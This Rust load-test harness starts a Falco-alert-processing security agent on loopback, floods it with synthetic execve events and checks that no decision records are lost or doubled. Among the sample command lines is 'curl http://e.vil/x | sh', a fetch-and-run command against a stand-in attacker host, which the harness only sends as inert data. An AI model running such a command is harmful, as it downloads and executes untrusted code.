//! Load test of the agent's HTTP intake from a second process on loopback.
//!
//! Starts `scbe-agent --listen 127.0.0.1:0`, posts `--events` Falco events
//! (each with a unique pid) in JSON-lines batches over `--connections`
//! keep-alive connections, stops the agent with SIGTERM, and counts the
//! decision records on its stdout: every acknowledged event must have exactly
//! one record, and no record may exist for an event that was not
//! acknowledged. A 503 (queue full) is counted and the batch is sent again,
//! so nothing is lost silently. Reports events/s, request latency p50/p99,
//! the agent's own receive-to-decision latency, peak RSS and queue drops.
//!
//! ```text
//! cargo build --release -p scbe-agent --bins --examples
//! target/release/examples/load --events 1000000 --connections 8 --batch 100
//! ```
//!
//! Not part of `cargo test`: `agent/tests/load.rs` runs the same code at a
//! small scale. See docs/load.md.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hdrhistogram::Histogram;

/// What to run.
#[derive(Debug, Clone)]
pub struct LoadConfig {
    pub agent: PathBuf,
    pub events: u64,
    pub connections: usize,
    pub batch: usize,
    /// Extra agent flags (e.g. `--queue-capacity 100000`).
    pub agent_args: Vec<String>,
    /// Send a refused (503) batch again (true), or count it as dropped.
    pub retry: bool,
}

/// What happened.
#[derive(Debug, Clone)]
pub struct LoadReport {
    pub events_sent: u64,
    pub events_acknowledged: u64,
    pub records: u64,
    /// Acknowledged events without a record.
    pub missing: u64,
    /// Events with more than one record.
    pub duplicated: u64,
    /// Records for events that were never acknowledged.
    pub unexpected: u64,
    pub requests: u64,
    pub refused_503: u64,
    pub queue_dropped: u64,
    pub seconds: f64,
    pub request_p50_us: u64,
    pub request_p99_us: u64,
    pub request_max_us: u64,
    pub agent_event_p50_us: u64,
    pub agent_event_p99_us: u64,
    pub queue_high_water: u64,
    pub peak_rss_kib: u64,
    pub exit_code: Option<i32>,
}

impl LoadReport {
    pub fn events_per_second(&self) -> f64 {
        self.events_acknowledged as f64 / self.seconds.max(1e-9)
    }

    /// Nothing lost, nothing doubled, nothing invented.
    pub fn is_exact(&self) -> bool {
        self.missing == 0
            && self.duplicated == 0
            && self.unexpected == 0
            && self.records == self.events_acknowledged
    }
}

const PID_BASE: u64 = 1_000_000;

const CMDLINES: [&str; 4] = [
    "nginx -g daemon off;",
    "curl http://e.vil/x | sh",
    "python3 -m http.server",
    "rm -rf /tmp/cache",
];

/// One Falco alert, its pid the event's index (so records can be matched).
fn event(index: u64, out: &mut Vec<u8>) {
    let pid = PID_BASE + index;
    let cmd = CMDLINES[(index % CMDLINES.len() as u64) as usize];
    let _ = writeln!(
        out,
        "{{\"hostname\":\"load-{host}\",\"output\":\"exec\",\"priority\":\"Notice\",\"rule\":\"Load test exec\",\"source\":\"syscall\",\"time\":\"2026-11-28T08:00:00.000000000Z\",\"output_fields\":{{\"evt.type\":\"execve\",\"proc.pid\":{pid},\"proc.name\":\"p{name}\",\"proc.pname\":\"bash\",\"proc.cmdline\":\"{cmd}\",\"fd.name\":\"/usr/bin/p{name}\",\"container.id\":\"host\"}}}}",
        host = index % 16,
        name = index % 97,
    );
}

/// Peak resident set of a live process (KiB), 0 when it is gone.
pub fn peak_rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        })
        .unwrap_or(0)
}

/// A minimal HTTP/1.1 keep-alive client for `POST /`.
struct Client {
    addr: String,
    stream: Option<BufReader<TcpStream>>,
}

impl Client {
    fn post(&mut self, body: &[u8]) -> std::io::Result<(u16, Vec<u8>)> {
        for attempt in 0..2 {
            if self.stream.is_none() {
                let stream = TcpStream::connect(&self.addr)?;
                stream.set_nodelay(true)?;
                stream.set_read_timeout(Some(Duration::from_secs(120)))?;
                self.stream = Some(BufReader::new(stream));
            }
            match self.exchange(body) {
                Ok(answer) => return Ok(answer),
                // A keep-alive connection the server closed: once more, fresh.
                Err(_) if attempt == 0 => self.stream = None,
                Err(e) => return Err(e),
            }
        }
        unreachable!("the loop returns")
    }

    fn exchange(&mut self, body: &[u8]) -> std::io::Result<(u16, Vec<u8>)> {
        let reader = self.stream.as_mut().expect("connected");
        let head = format!(
            "POST / HTTP/1.1\r\nHost: agent\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            body.len()
        );
        let stream = reader.get_mut();
        stream.write_all(head.as_bytes())?;
        stream.write_all(body)?;
        let mut status = 0u16;
        let mut length = 0usize;
        let mut close = false;
        let mut first = true;
        loop {
            let mut line = String::new();
            if reader.read_line(&mut line)? == 0 {
                return Err(std::io::ErrorKind::UnexpectedEof.into());
            }
            let line = line.trim_end();
            if first {
                status = line
                    .split_whitespace()
                    .nth(1)
                    .and_then(|s| s.parse().ok())
                    .unwrap_or(0);
                first = false;
                continue;
            }
            if line.is_empty() {
                break;
            }
            if let Some((k, v)) = line.split_once(':') {
                if k.eq_ignore_ascii_case("content-length") {
                    length = v.trim().parse().unwrap_or(0);
                } else if k.eq_ignore_ascii_case("connection")
                    && v.trim().eq_ignore_ascii_case("close")
                {
                    close = true;
                }
            }
        }
        let mut answer = vec![0; length];
        reader.read_exact(&mut answer)?;
        if close {
            self.stream = None;
        }
        Ok((status, answer))
    }
}

/// `"queued":N` from a 200 answer.
fn queued(answer: &[u8]) -> u64 {
    let text = String::from_utf8_lossy(answer);
    text.split("\"queued\":")
        .nth(1)
        .and_then(|rest| {
            rest.trim_start()
                .split(|c: char| !c.is_ascii_digit())
                .next()
        })
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

/// The `"pid":N` of a record line.
fn record_pid(line: &[u8]) -> Option<u64> {
    let at = line.windows(6).position(|w| w == b"\"pid\":")? + 6;
    let digits = line[at..].iter().take_while(|b| b.is_ascii_digit()).count();
    std::str::from_utf8(&line[at..at + digits])
        .ok()?
        .parse()
        .ok()
}

/// A quantile from Prometheus histogram buckets (`name_bucket{le="x"} n`),
/// as the bucket's upper bound, in µs.
fn bucket_quantile(metrics: &str, name: &str, q: f64) -> u64 {
    let buckets: Vec<(f64, f64)> = metrics
        .lines()
        .filter_map(|l| l.strip_prefix(&format!("{name}_bucket{{le=\"")))
        .filter_map(|rest| {
            let (le, n) = rest.split_once("\"} ")?;
            Some((
                le.parse::<f64>().unwrap_or(f64::INFINITY),
                n.trim().parse().ok()?,
            ))
        })
        .collect();
    let total = buckets.last().map_or(0.0, |b| b.1);
    buckets
        .iter()
        .find(|(_, n)| *n >= q * total)
        .map_or(0, |(le, _)| {
            if le.is_finite() {
                (le * 1e6) as u64
            } else {
                u64::MAX
            }
        })
}

fn http_get(addr: &str, path: &str) -> String {
    let Ok(mut stream) = TcpStream::connect(addr) else {
        return String::new();
    };
    let _ = write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: agent\r\nConnection: close\r\n\r\n"
    );
    let mut text = String::new();
    let _ = stream.read_to_string(&mut text);
    text
}

fn logged_addr(lines: &Arc<Mutex<Vec<String>>>, message: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        for line in lines.lock().unwrap().iter() {
            if line.contains(message) {
                if let Ok(v) = serde_json::from_str::<serde_json::Value>(line) {
                    if let Some(addr) = v["fields"]["addr"].as_str() {
                        return addr.to_owned();
                    }
                }
            }
        }
        assert!(
            Instant::now() < deadline,
            "the agent never logged {message:?}"
        );
        // Polling the agent's log for an address; not a synchronization sleep.
        std::thread::sleep(Duration::from_millis(5));
    }
}

/// Run the load test.
pub fn run(config: &LoadConfig) -> LoadReport {
    let mut child: Child = Command::new(&config.agent)
        .args([
            "--log-format",
            "json",
            "--listen",
            "127.0.0.1:0",
            "--metrics",
            "127.0.0.1:0",
        ])
        .args(&config.agent_args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot start {}: {e}", config.agent.display()));
    let pid = child.id();
    let stderr_lines = Arc::new(Mutex::new(Vec::<String>::new()));
    let sink = Arc::clone(&stderr_lines);
    let stderr = child.stderr.take().unwrap();
    let stderr_thread = std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines() {
            let Ok(line) = line else { break };
            sink.lock().unwrap().push(line);
        }
    });
    // Count records by pid as they arrive.
    let n = config.events as usize;
    let stdout = child.stdout.take().unwrap();
    let records_seen = Arc::new(AtomicU64::new(0));
    let seen = Arc::clone(&records_seen);
    let stdout_thread = std::thread::spawn(move || {
        let mut counts = vec![0u8; n];
        let mut unexpected = 0u64;
        let mut reader = BufReader::with_capacity(1 << 20, stdout);
        let mut line = Vec::with_capacity(4096);
        loop {
            line.clear();
            match reader.read_until(b'\n', &mut line) {
                Ok(0) | Err(_) => break,
                Ok(_) => {}
            }
            match record_pid(&line).and_then(|p| p.checked_sub(PID_BASE)) {
                Some(i) if (i as usize) < counts.len() => {
                    counts[i as usize] = counts[i as usize].saturating_add(1)
                }
                _ => unexpected += 1,
            }
            seen.fetch_add(1, Ordering::Relaxed);
        }
        (counts, unexpected)
    });
    let addr = logged_addr(&stderr_lines, "intake endpoint listening");
    let metrics_addr = logged_addr(&stderr_lines, "metrics endpoint listening");

    // Senders: connection c sends batches c, c + C, c + 2C, ...
    let started = Instant::now();
    let next_batch = Arc::new(AtomicU64::new(0));
    let batches = config.events.div_ceil(config.batch as u64);
    let acknowledged = Arc::new(Mutex::new(vec![false; n]));
    let senders: Vec<_> = (0..config.connections)
        .map(|_| {
            let (addr, next_batch, acknowledged, config) = (
                addr.clone(),
                Arc::clone(&next_batch),
                Arc::clone(&acknowledged),
                config.clone(),
            );
            std::thread::spawn(move || {
                let mut client = Client { addr, stream: None };
                let mut histogram = Histogram::<u64>::new_with_bounds(1, 600_000_000, 3).unwrap();
                let (mut requests, mut refused, mut sent) = (0u64, 0u64, 0u64);
                let mut body = Vec::with_capacity(config.batch * 400);
                loop {
                    let b = next_batch.fetch_add(1, Ordering::Relaxed);
                    if b >= batches {
                        break;
                    }
                    let first = b * config.batch as u64;
                    let last = (first + config.batch as u64).min(config.events);
                    body.clear();
                    for i in first..last {
                        event(i, &mut body);
                    }
                    sent += last - first;
                    loop {
                        let t = Instant::now();
                        let (status, answer) = client.post(&body).expect("the agent answers");
                        histogram.saturating_record(t.elapsed().as_micros().max(1) as u64);
                        requests += 1;
                        match status {
                            200 => {
                                assert_eq!(
                                    queued(&answer),
                                    last - first,
                                    "a whole batch is queued"
                                );
                                let mut acked = acknowledged.lock().unwrap();
                                for i in first..last {
                                    acked[i as usize] = true;
                                }
                                break;
                            }
                            503 => {
                                refused += 1;
                                if !config.retry {
                                    break;
                                }
                                // Retry-After says 1 s; a short pause keeps the test quick.
                                std::thread::sleep(Duration::from_millis(20));
                            }
                            other => panic!(
                                "unexpected status {other}: {}",
                                String::from_utf8_lossy(&answer)
                            ),
                        }
                    }
                }
                (histogram, requests, refused, sent)
            })
        })
        .collect();
    let mut histogram = Histogram::<u64>::new_with_bounds(1, 600_000_000, 3).unwrap();
    let (mut requests, mut refused, mut sent) = (0, 0, 0);
    let mut peak = 0;
    for sender in senders {
        let (h, r, f, s) = sender.join().unwrap();
        histogram.add(h).unwrap();
        requests += r;
        refused += f;
        sent += s;
        peak = peak.max(peak_rss_kib(pid));
    }
    let acknowledged: Vec<bool> = std::mem::take(&mut *acknowledged.lock().unwrap());
    let acked = acknowledged.iter().filter(|a| **a).count() as u64;
    // Wait for the agent to decide everything it accepted, then measure.
    let deadline = Instant::now() + Duration::from_secs(600);
    while records_seen.load(Ordering::Relaxed) < acked && Instant::now() < deadline {
        // Polling the record count; not a synchronization sleep.
        std::thread::sleep(Duration::from_millis(1));
    }
    let seconds = started.elapsed().as_secs_f64();
    let metrics = http_get(&metrics_addr, "/metrics");
    peak = peak.max(peak_rss_kib(pid));
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGTERM,
    );
    let status = child.wait().unwrap();
    let (counts, unexpected_records) = stdout_thread.join().unwrap();
    stderr_thread.join().unwrap();

    let (mut missing, mut duplicated, mut unexpected) = (0, 0, unexpected_records);
    for (i, &count) in counts.iter().enumerate() {
        match (acknowledged[i], count) {
            (true, 0) => missing += 1,
            (true, 1) | (false, 0) => {}
            (true, _) => duplicated += 1,
            (false, _) => unexpected += 1,
        }
    }
    let summary: serde_json::Value = stderr_lines
        .lock()
        .unwrap()
        .iter()
        .rev()
        .filter_map(|l| serde_json::from_str(l).ok())
        .find(|v: &serde_json::Value| v.get("events_seen").is_some())
        .unwrap_or_default();
    let metric = |name: &str| -> u64 {
        metrics
            .lines()
            .find(|l| l.starts_with(name) && l[name.len()..].starts_with(' '))
            .and_then(|l| l.rsplit(' ').next()?.parse::<f64>().ok())
            .map_or(0, |v| v as u64)
    };
    LoadReport {
        events_sent: sent,
        events_acknowledged: acked,
        records: counts.iter().map(|&c| u64::from(c)).sum::<u64>() + unexpected_records,
        missing,
        duplicated,
        unexpected,
        requests,
        refused_503: refused,
        queue_dropped: summary["queue_dropped"].as_u64().unwrap_or(0),
        seconds,
        request_p50_us: histogram.value_at_quantile(0.50),
        request_p99_us: histogram.value_at_quantile(0.99),
        request_max_us: histogram.max(),
        agent_event_p50_us: bucket_quantile(&metrics, "scbe_agent_event_latency_seconds", 0.50),
        agent_event_p99_us: bucket_quantile(&metrics, "scbe_agent_event_latency_seconds", 0.99),
        queue_high_water: metric("scbe_agent_queue_high_water"),
        peak_rss_kib: peak,
        exit_code: status.code(),
    }
}

pub fn print(config: &LoadConfig, r: &LoadReport) {
    println!(
        "load: {} events over {} connections in batches of {} ({} requests)",
        config.events, config.connections, config.batch, r.requests
    );
    println!(
        "  acknowledged {} | records {} | missing {} | duplicated {} | unexpected {} | {}",
        r.events_acknowledged,
        r.records,
        r.missing,
        r.duplicated,
        r.unexpected,
        if r.is_exact() { "EXACT" } else { "MISMATCH" }
    );
    println!(
        "  throughput {:.0} events/s ({:.2} s, first request to last record)",
        r.events_per_second(),
        r.seconds
    );
    println!(
        "  request latency p50 {} µs, p99 {} µs, max {} µs (batch of {} events, send to answer)",
        r.request_p50_us, r.request_p99_us, r.request_max_us, config.batch
    );
    println!(
        "  agent receive-to-decision latency p50 ≤ {} µs, p99 ≤ {} µs (histogram buckets)",
        r.agent_event_p50_us, r.agent_event_p99_us
    );
    println!(
        "  queue: high water {}, 503 answers {}, dropped {} | peak RSS {} MiB | agent exit {:?}",
        r.queue_high_water,
        r.refused_503,
        r.queue_dropped,
        r.peak_rss_kib / 1024,
        r.exit_code
    );
}

#[allow(dead_code)]
fn main() {
    let mut args = std::env::args().skip(1);
    let exe = std::env::current_exe().unwrap();
    let mut config = LoadConfig {
        // target/<profile>/examples/load -> target/<profile>/scbe-agent
        agent: exe
            .parent()
            .and_then(|p| p.parent())
            .unwrap()
            .join("scbe-agent"),
        events: 1_000_000,
        connections: 8,
        batch: 100,
        agent_args: Vec::new(),
        retry: true,
    };
    while let Some(arg) = args.next() {
        let mut value = || args.next().unwrap_or_else(|| panic!("{arg} needs a value"));
        match arg.as_str() {
            "--events" => config.events = value().parse().expect("--events N"),
            "--connections" => config.connections = value().parse().expect("--connections N"),
            "--batch" => config.batch = value().parse().expect("--batch N"),
            "--agent" => config.agent = PathBuf::from(value()),
            "--no-retry" => config.retry = false,
            "--" => config.agent_args.extend(args.by_ref()),
            "-h" | "--help" => {
                println!("usage: load [--events N] [--connections N] [--batch N] [--agent PATH] [--no-retry] [-- AGENT FLAGS...]");
                return;
            }
            other => panic!("unknown argument {other:?} (try --help)"),
        }
    }
    assert!(config.events > 0 && config.connections > 0 && config.batch > 0);
    let report = run(&config);
    print(&config, &report);
    if !report.is_exact() {
        std::process::exit(1);
    }
}
